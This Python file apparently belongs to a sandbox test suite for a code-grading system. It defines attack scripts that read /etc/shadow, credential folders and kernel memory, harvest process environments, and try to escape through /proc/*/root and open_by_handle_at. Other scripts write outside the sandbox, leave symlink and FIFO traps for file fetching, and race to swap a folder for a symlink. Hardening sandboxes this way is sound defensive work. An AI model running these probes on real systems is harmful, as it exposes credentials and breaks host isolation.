"""Attacks on the host's files: reading secrets, writing outside, and tricks with what is brought back."""

from __future__ import annotations

from collections.abc import Sequence

from rewardkit.programs import Execution
from rewardkit_sandbox.attacks.ground import of_the_host
from rewardkit_sandbox.attacks.model import LIMITS, attack, nothing_reported, report

_SECRETS = r"""
def readable(path):
    text = content(path)
    return f"{len(text)} bytes" if text else None


def walk(top):
    for folder, folders, names in os.walk(top):
        for name in names:
            path = os.path.join(folder, name)
            if not path.startswith(sys.base_prefix + "/") and content(path):
                return path


for path in ("/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/proc/kcore", "/dev/mem", "/dev/kmem",
             "/dev/port", "/dev/kmsg", "/proc/sched_debug", "/proc/vmallocinfo",
             "/proc/slabinfo", "/proc/timer_list", "/proc/pagetypeinfo", "/sys/kernel/debug/sched/debug"):
    attempt(path, readable, path)
for top in ("/root", "/home", "/var/lib/docker", "/var/run/secrets", "/run/secrets", "/var/log/journal",
            "/boot", "/sys/kernel/debug", "/sys/kernel/tracing", "/sys/firmware"):
    attempt(top, walk, top)
for device in entries("/dev"):
    path = "/dev/" + device
    if os.path.exists(path) and os.stat(path).st_mode & 0o170000 == 0o060000:
        attempt(path, readable, path)
report()
"""

_CANARIES = r"""
def show(path):
    return SECRET.search(content(path)) and SECRET.search(content(path))[0].decode()


def by_handle(path):
    # the inode of a file's folder can be opened by number, past every mount, by who may
    class Handle(ctypes.Structure):
        _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("bytes", ctypes.c_ubyte * 128)]

    handle, mount = Handle(128), ctypes.c_int()
    call("name_to_handle_at", -100, b"/", ctypes.byref(handle), ctypes.byref(mount), 0)
    directory = os.open("/", os.O_RDONLY)
    handle.size, handle.kind, handle.bytes[0] = 8, 1, 2  # the root of the file system is inode 2
    root = call("open_by_handle_at", directory, ctypes.byref(handle), os.O_RDONLY | os.O_DIRECTORY)
    return f"opened the root of the file system: {os.listdir(root)[:3]}" if root >= 0 else None


up = "/../../../../../.."
roots = ["", "/proc/1/root", f"/proc/{os.getppid()}/root", "/proc/1/cwd" + up, "/..", "/proc/self/cwd/../.."]
roots += [f"/proc/{pid}/root" for pid in strangers()[:20]]
roots += [f"/proc/{pid}/fd/{n}{up}" for pid in ("self", os.getppid(), 1) for n in entries(f"/proc/{pid}/fd")]
for path in FACTS["paths"]:
    for root in roots[:40]:
        attempt(root + path, show, root + path)
    attempt(path + " by its handle", by_handle, path)
for root in roots[1:40]:
    attempt(root + "/etc/hostname", lambda: content(root + "/etc/hostname") != content("/etc/hostname")
            and content(root + "/etc/hostname"))
report()
"""

_ENVIRONMENT = r"""
environment = dict(os.environ)
for pid in ("self", "1", str(os.getppid()), *map(str, strangers())):
    for entry in content(f"/proc/{pid}/environ").split(b"\0"):
        name, _, text = entry.decode(errors="replace").partition("=")
        if name:
            environment[name] = text
print(json.dumps({"environment": environment, "memory": secrets_in_memory()}))
"""

_WRITE = r"""
def create(folder):
    path = os.path.join(folder, MARK)
    try:
        os.close(os.open(path, os.O_CREAT | os.O_WRONLY))
    except OSError:
        return
    created.append(path)


def change(path):
    os.close(os.open(path, os.O_WRONLY | os.O_APPEND))
    return "could be changed"


created, stop = [], time.monotonic() + 1
own = [os.path.dirname(path) for path in (os.__file__, json.__file__, sys.executable, FACTS["paths"][0])]
for place in (*PLACES, *own, os.path.expanduser("~")):
    create(place)
for folder, inside, names in os.walk("/"):
    inside[:] = [name for name in inside if os.path.join(folder, name) not in ("/proc", os.getcwd())]
    if len(created) > 40 or time.monotonic() > stop:
        break
    if MARK not in names:
        create(folder)
for path in FACTS["paths"]:
    attempt(path, change, path)
report(_created=created)
"""

_FIND = r"""
found, stop = set(), time.monotonic() + 1
for folder, inside, names in os.walk("/"):
    inside[:] = [name for name in inside if os.path.join(folder, name) != "/proc"]
    found.update(os.path.join(folder, name) for name in names if name == MARK)
    if time.monotonic() > stop:
        break
found.update(os.path.join(place, MARK) for place in PLACES if os.path.lexists(os.path.join(place, MARK)))
report(**{path: "is still there" for path in list(found)[:5]})
"""

_TRICKS = r"""
def link(way, target, hard=False):
    try:
        (os.link if hard else os.symlink)(target, way)
    except OSError:
        pass


os.mkdir("real")
for number, path in enumerate([*FACTS["paths"], "/proc/self/environ", "/etc/shadow", "/etc/hostname"]):
    link(f"link{number}", path)
    link(f"hard{number}", path, hard=True)
    link(f"real/link{number}", path)
link("folder", os.path.dirname(FACTS["paths"][0]))
link("root", "/")
link("loop", "loop")
link("out.txt", FACTS["paths"][0])
os.mkfifo("fifo")
server = socket.socket(socket.AF_UNIX)
server.bind("socket")
try:
    with open("sparse", "wb") as hole:
        hole.truncate(1 << 30)
except OSError:
    pass
open("a\nb\x1b[2J\t", "w").close()
open(b"\xff\xfe bytes", "w").close()
deep = "d/" * 200
os.makedirs(deep)
open(deep + "leaf", "w").close()
report()
"""

_TRICK_FILES = (
    "out.txt",
    "link0",
    "link1",
    "hard0",
    "real/link0",
    "folder/.canary",
    "root/etc/hostname",
    "fifo",
    "socket",
)

_SWAP = r"""
os.mkdir("d")
open("d/f", "w").write("mine")
if os.fork() == 0:  # swaps the folder for a link to the host's for as long as it lives
    stop = time.monotonic() + 3
    while time.monotonic() < stop:
        try:
            os.rename("d", "e")
            os.symlink(os.path.dirname(FACTS["paths"][0]), "d")
            os.unlink("d")
            os.rename("e", "d")
        except OSError:
            pass
    os._exit(0)
report()
"""


def _environment_held(executions: Sequence[Execution]) -> str | None:
    try:
        found = report(executions[0])
    except ValueError as problem:
        return str(problem)
    if names := of_the_host(found["environment"]):
        return f"it knows the host's variables {', '.join(names[:5])}"
    return "it found secrets in its memory" if found["memory"] else None


def _tricks_held(executions: Sequence[Execution]) -> str | None:
    for execution in executions:
        if size := sum(map(len, execution.files.values())) > LIMITS.disk_mb << 20:
            return f"{size} bytes were brought back"
        foreign = [name for name in execution.files if name.startswith(("link", "root", "folder", "fifo", "socket"))]
        if foreign or "out.txt" in execution.files:
            return f"what is no file of its own was brought back: {', '.join(foreign) or 'out.txt'}"
    return nothing_reported(executions)


ATTACKS = (
    attack("secrets", "files", "reads /etc/shadow, /root, /home, the kernel's and the disks' memory", _SECRETS),
    attack("canaries", "files", "reads the checker's own files, also through /proc/*/root and handles", _CANARIES),
    attack(
        "environment",
        "files",
        "reads the host's environment: its own, /proc/1/environ, what is left in memory",
        _ENVIRONMENT,
        held=_environment_held,
    ),
    attack("writing", "files", "writes in every place it can find; the next program looks for it", _WRITE, _FIND),
    attack(
        "brought-back",
        "files",
        "leaves links, pipes, sockets and huge files in place of what is fetched",
        _TRICKS,
        held=_tricks_held,
        fetch=_TRICK_FILES,
    ),
    attack(
        "brought-back-all", "files", "the same when everything is fetched", _TRICKS, held=_tricks_held, fetch=("*",)
    ),
    attack("swapped", "files", "swaps a folder for a link while it is fetched", _SWAP, fetch=("d/f",)),
)
